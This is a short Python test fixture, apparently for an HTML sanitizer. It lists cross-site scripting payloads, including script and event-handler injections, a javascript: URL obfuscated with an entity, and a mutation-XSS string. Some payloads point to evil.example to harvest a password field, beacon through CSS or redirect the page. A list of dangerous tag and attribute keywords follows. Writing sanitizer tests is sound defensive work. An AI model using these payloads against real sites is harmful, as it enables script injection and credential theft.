"""HTML that would run where a colleague's desktop shows it."""

ATTACKS = (
    "<script>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<svg onload=alert(1)></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<p style="background:url(https://evil.example/x)">y</p>',
    '<math><mtext><table><mglyph><style><img title="</style><img src onerror=alert(1)>">',
    '<object data="x"></object><embed src="x">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="//evil.example">',
)
DANGERS = (
    "<script",
    "onerror",
    "onload",
    "<iframe",
    "srcdoc",
    "javascript:",
    "<form",
    "<input",
    "url(",
    "<svg",
    "<style",
    "<object",
    "<embed",
    "<meta",
    "<base",
)
